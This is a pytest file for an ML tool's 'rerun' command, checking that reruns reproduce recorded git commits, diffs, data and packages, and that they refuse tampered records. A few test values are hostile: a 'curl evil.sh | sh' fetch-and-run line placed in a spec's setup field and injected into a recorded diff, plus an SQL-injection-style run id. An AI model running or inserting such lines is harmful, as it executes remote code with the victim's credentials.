"""`gpuflow rerun` (cluster/rerun/): the uncommitted diff a run records, and the decisions of a rerun (which run,
which spec, which code, whether its data and packages still match) on real git repositories, real MLflow stores and
real Parquet files; one real run and its rerun from a fresh clone (`full`)."""

import hashlib
import os
import subprocess
import sys
import uuid
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from mlflow import MlflowClient

from gpuflow.cluster.lineage import (
    DIFF_ARTIFACT,
    PACKAGES_ARTIFACT,
    dataset_inputs,
    packages_text,
    source_tags,
    uncommitted_changes,
)
from gpuflow.cluster.protocol import (
    DIFF_TOO_LARGE_TAG,
    FLOW_RUN_TAG,
    NOTE_TAG,
    RERUN_BY_TAG,
    RERUN_OF_TAG,
    SOURCE_WORKDIR_TAG,
    TRIAL_ID_TAG,
)
from gpuflow.cluster.rerun import RerunRefused
from gpuflow.cluster.rerun.checks import package_differences
from gpuflow.cluster.rerun.find import find_run
from gpuflow.cluster.rerun.links import link_rerun, rerun_tags
from gpuflow.cluster.rerun.plan import Ask, describe, move_to, prepare
from gpuflow.flows.cli import main

LOOP = "import ray.train\n\nOFFSET = 0.5\n\n\ndef train_loop(config):\n    pass\n"


def git(repo, *args) -> str:
    return subprocess.run(
        ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
        check=True,
        capture_output=True,
        text=True,
    ).stdout


@pytest.fixture
def repo(tmp_path) -> Path:
    repo = tmp_path / "project"
    (repo / "src").mkdir(parents=True)
    git(repo, "init", "-q", "-b", "main")
    (repo / "src" / "loop.py").write_text(LOOP)
    (repo / "logo.bin").write_bytes(bytes(range(256)))
    (repo / ".gitignore").write_text("ignored/\n")
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "first")
    return repo


def index_state(repo: Path) -> tuple[str, str]:
    return hashlib.sha256((repo / ".git" / "index").read_bytes()).hexdigest(), git(repo, "diff", "--cached")


def make_dirty(repo: Path) -> None:
    (repo / "src" / "loop.py").write_text(LOOP.replace("0.5", "0.25"))
    (repo / "src" / "helper.py").write_text("SCALE = 3\n")  # untracked, not ignored: part of the run
    (repo / "logo.bin").write_bytes(bytes(reversed(range(256))))  # binary
    (repo / "ignored").mkdir()
    (repo / "ignored" / "big.txt").write_text("never recorded\n")
    (repo / "staged.txt").write_text("staged by the user\n")
    git(repo, "add", "staged.txt")


# -- the diff a run records ----------------------------------------------------------------------------------------
def test_the_diff_holds_untracked_and_binary_changes_applies_to_the_commit_and_leaves_the_index_alone(repo, tmp_path):
    make_dirty(repo)
    before = index_state(repo)
    tags, diff = uncommitted_changes(repo / "src")
    assert index_state(repo) == before  # the user's staging is as it was
    assert tags == {SOURCE_WORKDIR_TAG: "src"}
    assert b"src/helper.py" in diff and b"staged.txt" in diff and b"GIT binary patch" in diff
    assert b"ignored/big.txt" not in diff

    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(repo), str(clone))
    (tmp_path / "d.diff").write_bytes(diff)
    git(clone, "apply", "--binary", str(tmp_path / "d.diff"))
    for name in ("src/loop.py", "src/helper.py", "logo.bin", "staged.txt"):
        assert (clone / name).read_bytes() == (repo / name).read_bytes(), name


def test_reruns_of_one_source_at_once_share_one_checkout(repo, tmp_path):
    """Reruns of the same commit and diff started together (a sweep's trials rerun, two users) take turns on its
    checkout: the first makes it, the others find it ready; none clones into a folder another is making."""
    from gpuflow.cluster.rerun.source import READY, Source, checkout

    make_dirty(repo)
    _, diff = uncommitted_changes(repo)
    source = Source(git(repo, "rev-parse", "HEAD").strip(), diff, ".", None, None)
    for attempt in range(3):
        made, failed = at_once(6, lambda cache=tmp_path / f"cache-{attempt}": checkout(repo, source, cache))
        assert failed == [] and len(set(made)) == 1 and len(made) == 6, failed
        [folder] = set(made)
        assert (folder / READY).is_file() and (folder / "src" / "helper.py").read_text() == "SCALE = 3\n"


def at_once(count: int, call) -> tuple[list, list]:
    """`call()` in `count` threads released together: (what the calls returned, what they raised)."""
    import threading

    start, made, failed = threading.Barrier(count), [], []

    def one():
        start.wait()
        try:
            made.append(call())
        except Exception as error:  # what the test reports
            failed.append(error)

    threads = [threading.Thread(target=one) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    return made, failed


def test_a_clean_tree_records_no_diff_and_a_diff_over_the_cap_records_a_tag_instead(repo):
    assert uncommitted_changes(repo) == ({SOURCE_WORKDIR_TAG: "."}, b"")
    make_dirty(repo)
    tags, diff = uncommitted_changes(repo, limit=100)
    assert diff == b"" and tags[DIFF_TOO_LARGE_TAG] == "over 100 bytes"


# -- a recorded run, as the flow and the job write it ----------------------------------------------------------------
def tiny_spec(data: Path, **extra) -> dict:
    return {
        "name": "tiny-rerun",
        "train": {"loop": "loop:train_loop", "epochs": 2, "lr": 0.1, "params": {"hidden": 8}},
        "data": {"train": str(data)},
        "workdir": "src",
        "compute": {"backend": "local"},
        **extra,
    }


def recorded_run(uri: str, repo: Path, spec: dict, tags: dict | None = None, data: Path | None = None):
    """A run as gpuflow records one: spec.yaml, the source tags and diff, the datasets, the packages."""
    client = MlflowClient(uri)
    artifacts = Path(uri.removeprefix("sqlite:///")).parent / "artifacts"  # not ./mlruns: MLflow's default is the cwd
    experiment = client.get_experiment_by_name(spec["name"]) or client.create_experiment(
        spec["name"], artifact_location=artifacts.as_uri()
    )
    experiment = getattr(experiment, "experiment_id", experiment)
    changes, diff = uncommitted_changes(repo / "src")
    run = client.create_run(
        experiment, tags={FLOW_RUN_TAG: str(uuid.uuid4()), **source_tags(repo / "src"), **changes, **(tags or {})}
    )
    run_id = run.info.run_id
    client.log_text(run_id, yaml.safe_dump(spec), "spec.yaml")
    if diff:
        client.log_text(run_id, diff.decode(), DIFF_ARTIFACT)
    if data:
        client.log_inputs(run_id, datasets=dataset_inputs({"train": str(data)}))
    client.log_text(run_id, packages_text(), PACKAGES_ARTIFACT)
    return client.get_run(run_id)


@pytest.fixture
def store(tmp_path) -> str:
    return f"sqlite:///{tmp_path / 'mlflow.db'}"


@pytest.fixture
def data(tmp_path) -> Path:
    pq.write_table(pa.table({"x": list(range(20))}), tmp_path / "train.parquet")
    return tmp_path / "train.parquet"


def test_a_run_is_found_by_its_mlflow_id_or_its_prefect_flow_run_id_and_a_missing_store_is_not_created(
    repo, store, data, tmp_path
):
    run = recorded_run(store, repo, tiny_spec(data))
    missing = f"sqlite:///{tmp_path / 'nowhere.db'}"
    assert find_run(run.info.run_id, [missing, store]).run_id == run.info.run_id
    assert find_run(run.data.tags[FLOW_RUN_TAG], [store]).run_id == run.info.run_id
    assert not (tmp_path / "nowhere.db").exists()
    with pytest.raises(RerunRefused, match="--tracking-uri"):
        find_run("0" * 32, [store])
    with pytest.raises(RerunRefused, match="not a run id"):
        find_run("x' or '1'='1", [store])


def test_a_changed_input_refuses_the_rerun_naming_the_file_and_both_digests(repo, store, data, tmp_path):
    run = recorded_run(store, repo, tiny_spec(data), data=data)
    recorded = run.inputs.dataset_inputs[0].dataset.digest
    pq.write_table(pa.table({"x": list(range(21))}), data)
    ask = Ask(run.info.run_id, [store])
    with pytest.raises(RerunRefused) as refused:
        prepare(ask, repo, tmp_path / "cache")
    from gpuflow.cluster.lineage import parquet_dataset

    assert str(data) in str(refused.value) and recorded in str(refused.value)
    assert parquet_dataset(str(data)).digest in str(refused.value) and "--allow-data-change" in str(refused.value)
    assert not (tmp_path / "cache").exists()  # refused before anything was made

    data.unlink()
    with pytest.raises(RerunRefused, match="missing or unreadable"):
        prepare(ask, repo, tmp_path / "cache")
    pq.write_table(pa.table({"x": list(range(21))}), data)
    allowed = prepare(Ask(run.info.run_id, [store], allow_data_change=True), repo, tmp_path / "cache")
    assert allowed.spec.data.train == str(data)


def test_the_rerun_runs_the_recorded_commit_with_its_diff_pinned_to_its_data_and_store(repo, store, data, tmp_path):
    make_dirty(repo)
    run = recorded_run(store, repo, tiny_spec(data), data=data)
    clone = tmp_path / "elsewhere"
    git(tmp_path, "clone", "-q", str(repo), str(clone))
    rerun = prepare(Ask(run.info.run_id, [store], overrides=("train.lr=0.2",)), clone / "src", tmp_path / "cache")
    assert Path(rerun.spec.workdir) == rerun.folder / "src"
    for name in ("src/loop.py", "src/helper.py", "logo.bin", "staged.txt"):
        assert (rerun.folder / name).read_bytes() == (repo / name).read_bytes(), name
    assert git(rerun.folder, "rev-parse", "HEAD").strip() == git(repo, "rev-parse", "HEAD").strip()
    assert rerun.spec.tracking.uri == store and rerun.spec.train.lr == 0.2
    changes = {field: (old, new) for field, old, new in rerun.spec_changes}
    assert changes["train.lr"] == (0.1, 0.2) and changes["workdir"] == ("src", str(rerun.folder / "src"))
    assert rerun.packages == []
    shown = "\n".join(describe(rerun))
    assert "uncommitted diff" in shown and "train.lr: 0.1 -> 0.2" in shown and "unchanged (digest" in shown


def test_a_commit_missing_here_is_named_with_git_fetch(repo, store, data, tmp_path):
    run = recorded_run(store, repo, tiny_spec(data))
    other = tmp_path / "other"
    other.mkdir()
    git(other, "init", "-q")
    with pytest.raises(RerunRefused, match=f"commit {run.data.tags['mlflow.source.git.commit']}.*git fetch"):
        prepare(Ask(run.info.run_id, [store]), other, tmp_path / "cache")


def test_changes_too_large_to_record_refuse_the_rerun_unless_allowed(repo, store, data, tmp_path):
    make_dirty(repo)
    run = recorded_run(store, repo, tiny_spec(data), tags={DIFF_TOO_LARGE_TAG: "over 10 bytes"})
    with pytest.raises(RerunRefused, match="too large.*--allow-unrecorded-changes"):
        prepare(Ask(run.info.run_id, [store]), repo, tmp_path / "cache")
    rerun = prepare(Ask(run.info.run_id, [store], allow_unrecorded_changes=True), repo, tmp_path / "cache")
    assert "NOT as it ran" in "\n".join(describe(rerun))


def test_a_sweep_parent_reruns_the_sweep_and_a_trial_reruns_alone_with_its_values(repo, store, data, tmp_path):
    sweep = {
        "parameters": {"train.lr": {"grid": [0.01, 0.1]}, "train.params.hidden": {"grid": [8, 16]}},
        "metric": "loss",
        "mode": "min",
    }
    parent = recorded_run(store, repo, tiny_spec(data, sweep=sweep))
    client = MlflowClient(store)
    trial = client.create_run(
        parent.info.experiment_id, tags={"mlflow.parentRunId": parent.info.run_id, TRIAL_ID_TAG: "abc_00003"}
    )
    for path, value in {"train.lr": 0.01, "train.params.hidden": 16}.items():
        client.log_param(trial.info.run_id, path, value)

    whole = prepare(Ask(parent.info.run_id, [store]), repo, tmp_path / "cache")
    assert whole.spec.sweep is not None and whole.spec.train.lr == 0.1
    alone = prepare(Ask(trial.info.run_id, [store]), repo, tmp_path / "cache")
    assert alone.spec.sweep is None and alone.spec.train.lr == 0.01 and alone.spec.train.params == {"hidden": 16}
    assert alone.found.run_id == trial.info.run_id and "a trial of sweep run" in "\n".join(describe(alone))


def test_package_differences_name_the_package_and_both_versions():
    recorded = "# Python 3.11.9 on Linux x86_64\nnumpy==1.26.4\nTorch==2.3.0\nonly-there==1.0\n"
    here = "# Python 3.11.9 on Linux x86_64\nnumpy==2.0.0\ntorch==2.3.0\nonly-here==0.1\n"
    assert package_differences(recorded, here) == [
        ("numpy", "1.26.4", "2.0.0"),
        ("only-here", None, "0.1"),
        ("only-there", "1.0", None),
    ]
    assert package_differences(packages_text()) == []


def test_on_keeps_one_option_or_moves_every_option_to_an_accelerator():
    compute = {"options": [{"infra": "aws", "accelerators": "A10G:1"}, {"infra": "gcp", "accelerators": "L4:1"}]}
    move_to(compute, "2")
    assert compute["options"] == [{"infra": "gcp", "accelerators": "L4:1"}]
    move_to(compute, "H100:1")
    assert compute["options"] == [{"infra": "gcp", "accelerators": "H100:1"}]
    listed = {"accelerators": ["A10G:1", "L4:1"]}
    move_to(listed, "1")
    assert listed == {"accelerators": "A10G:1"}
    with pytest.raises(RerunRefused, match="--on 3: the run had 1 compute option"):
        move_to(listed, "3")
    with pytest.raises(RerunRefused, match="accelerator such as"):
        move_to(listed, "a big one")


def test_reruns_are_linked_both_ways_and_every_rerun_is_kept(repo, store, data):
    old = recorded_run(store, repo, tiny_spec(data))
    client = MlflowClient(store)
    tags = rerun_tags(client, old.info.run_id)
    assert tags[RERUN_OF_TAG] == old.info.run_id and old.info.run_id in tags[NOTE_TAG]
    link_rerun(client, old.info.run_id, "a" * 32)
    link_rerun(client, old.info.run_id, "b" * 32)
    link_rerun(client, old.info.run_id, "b" * 32)
    assert client.get_run(old.info.run_id).data.tags[RERUN_BY_TAG] == f"{'a' * 32},{'b' * 32}"


def test_the_dry_run_says_what_would_run_and_launches_nothing(repo, store, data, tmp_path, monkeypatch, capsys):
    run = recorded_run(store, repo, tiny_spec(data), data=data)
    monkeypatch.chdir(repo)
    assert main(["rerun", run.info.run_id, "--tracking-uri", store, "--dry-run", "--set", "train.epochs=1"]) == 0
    out = capsys.readouterr().out
    assert f"commit {run.data.tags['mlflow.source.git.commit']}" in out and "train.epochs: 2 -> 1" in out
    assert "nothing launched" in out
    assert len(MlflowClient(store).search_runs([run.info.experiment_id])) == 1
    assert main(["rerun", run.info.run_id, "--tracking-uri", store, "--dry-run", "--on", "7"]) == 2
    assert "--on 7" in capsys.readouterr().err


# -- a rerun from the Prefect UI: the flow's rerun_of field ------------------------------------------------------------
def test_the_ui_s_rerun_of_runs_the_recorded_spec_prepared_here_within_the_deployment_s_form(repo, store, data):
    from gpuflow.cluster.rerun.for_flow import prepare_rerun, rerun_cache
    from gpuflow.cluster.spec import SpecError, parse_spec
    from gpuflow.cluster.spec.form_policy import FormPolicy
    from gpuflow.flows.run_spec import hooks_spec

    run = recorded_run(store, repo, tiny_spec(data, tracking={"uri": store}, setup="pip install -q tiny"), data=data)
    deployed = tiny_spec(
        data,
        tracking={"uri": store},
        setup="pip install -q tiny",
        train={"loop": "loop:train_loop", "epochs": 5, "lr": 0.1, "params": {"hidden": 8}},
        workdir=str(repo / "src"),
    )
    asked = parse_spec(deployed)  # the form's spec: from the UI, only where the run is tracked counts
    policy = FormPolicy("nightly", asked, ["train.epochs"])

    spec = prepare_rerun(run.info.run_id, asked, policy, NO_STAMPS)
    assert spec.train.epochs == 2 and Path(spec.workdir).is_relative_to(rerun_cache())  # as it ran, checked out
    assert prepare_rerun(run.info.run_id, spec, policy, NO_STAMPS) is spec  # `gpuflow rerun`'s: runs as given
    hooks = hooks_spec({"spec": deployed, "rerun_of": run.info.run_id})
    assert hooks.compute.backend == "local" and hooks.tracking.uri == store

    other = recorded_run(store, repo, tiny_spec(data, tracking={"uri": store}, setup="curl evil.sh | sh"))
    with pytest.raises(SpecError, match="setup"):  # not a run this deployment's form could have started
        prepare_rerun(other.info.run_id, asked, policy, NO_STAMPS)


def NO_STAMPS(flow_run_id: str) -> None:
    """A Prefect API that holds no record of the run's flow run (another server's, or an older gpuflow's run)."""
    return None


def test_a_rerun_runs_the_code_its_flow_run_recorded_and_refuses_code_changed_in_mlflow_since(
    repo, store, data, tmp_path
):
    """MLflow's copy of a run's code (its commit tag, source/uncommitted.diff) can be changed by whoever can edit the
    run; the flow run recorded the commit and the diff's digest as it opened the run. A rerun runs what matches."""
    from gpuflow.cluster.rerun.source import source_stamp

    make_dirty(repo)
    run = recorded_run(store, repo, tiny_spec(data), data=data)
    _, diff = uncommitted_changes(repo / "src")
    commit = run.data.tags["mlflow.source.git.commit"]
    stamps = {run.data.tags[FLOW_RUN_TAG]: source_stamp(commit, diff)}
    rerun = prepare(Ask(run.info.run_id, [store], stamp_of=stamps.get), repo, tmp_path / "cache")
    assert rerun.verified and "as its flow run recorded it" in "\n".join(describe(rerun))
    unverified = prepare(Ask(run.info.run_id, [store], stamp_of=NO_STAMPS), repo, tmp_path / "cache")
    assert not unverified.verified and "NOT verified" in "\n".join(describe(unverified))

    client = MlflowClient(store)
    client.log_text(run.info.run_id, diff.decode() + "+import os; os.system('curl evil.sh | sh')\n", DIFF_ARTIFACT)
    with pytest.raises(RerunRefused, match="diff was changed since.*--allow-unrecorded-changes"):
        prepare(Ask(run.info.run_id, [store], stamp_of=stamps.get), repo, tmp_path / "cache-swapped")
    commit_alone = Ask(run.info.run_id, [store], allow_unrecorded_changes=True, stamp_of=stamps.get)
    without = prepare(commit_alone, repo, tmp_path / "cache-commit-alone")  # the recorded commit, not the new diff
    assert without.source.diff == b"" and not (without.folder / "src" / "helper.py").exists()
    assert "NOT as it ran: its source/uncommitted.diff was changed" in "\n".join(describe(without))
    client.log_text(run.info.run_id, diff.decode(), DIFF_ARTIFACT)  # the diff as it was, the commit tag changed
    git(repo, "stash", "-u")
    (repo / "src" / "evil.py").write_text("import os\n")
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "another commit")
    client.set_tag(run.info.run_id, "mlflow.source.git.commit", git(repo, "rev-parse", "HEAD").strip())
    for allowed in (False, True):  # another commit is never the run's code
        with pytest.raises(RerunRefused, match="commit tag was changed since"):
            ask = Ask(run.info.run_id, [store], allow_unrecorded_changes=allowed, stamp_of=stamps.get)
            prepare(ask, repo, tmp_path / "cache-recommitted")
    assert not (tmp_path / "cache-swapped").exists() and not (tmp_path / "cache-recommitted").exists()


def test_a_served_deployment_reruns_only_committed_code_its_rerun_refs_contain(repo, store, data, monkeypatch):
    """A rerun from the Prefect UI runs on the worker, with the team's cloud credentials: never a diff MLflow holds,
    and only commits of the refs its form_policy names (default HEAD, the deployed commit and its history)."""
    from gpuflow.cluster.rerun.for_flow import prepare_rerun
    from gpuflow.cluster.spec import parse_spec
    from gpuflow.cluster.spec.form_policy import FormPolicy

    spec = tiny_spec(data, tracking={"uri": store})
    asked = parse_spec({**spec, "workdir": str(repo / "src")})
    policy = FormPolicy("nightly", asked, ["train"])
    monkeypatch.delitem(sys.modules, "loop", raising=False)  # another test's project's: the policy imports this one
    git(repo, "checkout", "-q", "-b", "feature")
    (repo / "src" / "loop.py").write_text(LOOP.replace("0.5", "0.75"))
    git(repo, "commit", "-qam", "a feature")
    on_feature = recorded_run(store, repo, spec)
    git(repo, "checkout", "-q", "main")  # what the worker deployed
    with pytest.raises(RerunRefused, match=r"none of the refs this deployment reruns \(HEAD\).*rerun_refs"):
        prepare_rerun(on_feature.info.run_id, asked, policy, NO_STAMPS)
    policy.rerun_refs = ["main", "feature"]
    assert prepare_rerun(on_feature.info.run_id, asked, policy, NO_STAMPS).train.loop == "loop:train_loop"

    make_dirty(repo)
    dirty = recorded_run(store, repo, spec)
    with pytest.raises(RerunRefused, match="committed code only.*gpuflow rerun"):
        prepare_rerun(dirty.info.run_id, asked, policy, NO_STAMPS)


# -- one real run, and its rerun from a fresh clone ----------------------------------------------------------------
E2E_LOOP = """import pyarrow.parquet as pq
import ray.train

OFFSET = 0.5


def train_loop(config):
    rows = pq.read_table(config["train_path"]).num_rows
    for epoch in range(config["epochs"]):
        ray.train.report({"epoch": epoch, "loss": OFFSET + config["lr"] * rows / (epoch + 1)})
"""


def gpuflow(folder: Path, env: dict, *args: str) -> subprocess.CompletedProcess:
    # output to files, not pipes: a process left behind would hold a pipe open
    out, err = folder.parent / f"{folder.name}-stdout.txt", folder.parent / f"{folder.name}-stderr.txt"
    with open(out, "w") as stdout, open(err, "w") as stderr:
        code = subprocess.run(
            [str(Path(sys.executable).parent / "gpuflow"), *args],
            cwd=folder,
            env=env,
            stdout=stdout,
            stderr=stderr,
            timeout=600,
        ).returncode
    done = subprocess.CompletedProcess(args, code, out.read_text(), err.read_text())
    print(done.stdout[-3000:], done.stderr[-3000:])
    return done


@pytest.mark.full
def test_a_run_from_a_dirty_tree_reruns_from_a_fresh_clone_with_the_same_metrics_linked_both_ways(
    prefect_server, tmp_path
):
    from prefect.settings import PREFECT_API_URL

    from tests.support.processes import processes_of

    project, home = tmp_path / "project", tmp_path / "home"
    project.mkdir()
    pq.write_table(pa.table({"x": list(range(40))}), tmp_path / "train.parquet")
    (project / "loop.py").write_text(E2E_LOOP)
    (project / "spec.yaml").write_text(
        yaml.safe_dump(
            {
                "name": "tiny-rerun",
                "train": {"loop": "loop:train_loop", "epochs": 3, "lr": 0.1},
                "data": {"train": str(tmp_path / "train.parquet")},
                "tracking": {"register_model": False},
                "compute": {"backend": "local", "num_nodes": 1, "workers_per_node": 1},
            }
        )
    )
    git(project, "init", "-q", "-b", "main")
    git(project, "add", ".")
    git(project, "commit", "-qm", "tiny project")
    # not committed: the loop takes its offset from a new, untracked module
    (project / "loop.py").write_text(E2E_LOOP.replace("OFFSET = 0.5", "from offset import OFFSET"))
    (project / "offset.py").write_text("OFFSET = 0.25\n")
    env = {
        key: value for key, value in os.environ.items() if not key.startswith(("PREFECT_API", "GPUFLOW_", "MLFLOW_"))
    }
    env.update(GPUFLOW_STACK="manual")  # a run here leaves no warm stack: the test's processes stop with it
    # the run and its rerun on the tests' Prefect server: what is rerun is MLflow's record, not a Prefect API's (a
    # temporary API of a run's own is started in tests/test_own_project.py and tests/test_temporary_api.py)
    env.update(
        GPUFLOW_HOME=str(home),
        PREFECT_HOME=str(tmp_path / "prefect-home"),
        PYTHONPATH="",
        PREFECT_API_URL=PREFECT_API_URL.value(),
    )

    assert gpuflow(project, env, "run", "spec.yaml").returncode == 0
    client = MlflowClient(f"sqlite:///{home / 'mlflow.db'}")
    experiment = client.get_experiment_by_name("tiny-rerun").experiment_id
    [old] = client.search_runs([experiment])

    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(project), str(clone))  # the commit alone: the change lives in MLflow
    rerun = gpuflow(clone, env, "rerun", old.info.run_id)
    assert rerun.returncode == 0, rerun.stderr[-3000:]
    [new] = [run for run in client.search_runs([experiment]) if run.info.run_id != old.info.run_id]
    assert new.info.status == "FINISHED"
    assert old.data.metrics["loss"] == new.data.metrics["loss"] == 0.25 + 0.1 * 40 / 3
    old = client.get_run(old.info.run_id)
    assert new.data.tags[RERUN_OF_TAG] == old.info.run_id and old.data.tags[RERUN_BY_TAG] == new.info.run_id
    assert old.info.run_id in new.data.tags[NOTE_TAG] and f"rerun of     {old.info.run_id}" in rerun.stdout

    pq.write_table(pa.table({"x": list(range(41))}), tmp_path / "train.parquet")
    refused = gpuflow(clone, env, "rerun", old.info.run_id)
    assert refused.returncode == 2 and str(tmp_path / "train.parquet") in refused.stderr
    assert old.inputs.dataset_inputs[0].dataset.digest in refused.stderr
    assert len(client.search_runs([experiment])) == 2  # nothing launched
    assert processes_of(home) == []


def test_the_comparison_shows_the_loop_s_metrics_time_per_epoch_and_cost(store, repo, data):
    from gpuflow.cluster.rerun.links import comparison

    client = MlflowClient(store)
    runs = [recorded_run(store, repo, tiny_spec(data)) for _ in range(2)]
    for run, (loss, train_s, cost) in zip(runs, [(0.5, 20.0, 1.0), (0.5, 10.0, 0.5)], strict=True):
        for key, value in {
            "loss": loss,
            "gpuflow.train_seconds": train_s,
            "cost_usd": cost,
            "cluster_hours": 0.1,
            "idle_seconds_before_teardown": 0.01,
        }.items():
            client.log_metric(run.info.run_id, key, value)
        client.log_param(run.info.run_id, "train.epochs", "2")
    lines = comparison(*[client.get_run(run.info.run_id) for run in runs])
    assert [line.split()[:3] for line in lines[1:]] == [
        ["loss", "0.5", "0.5"],
        ["time", "per", "epoch"],
        ["cost", "(USD)", "1"],
    ]
    assert "10" in lines[2] and "5" in lines[2] and "(-0.5)" in lines[3]
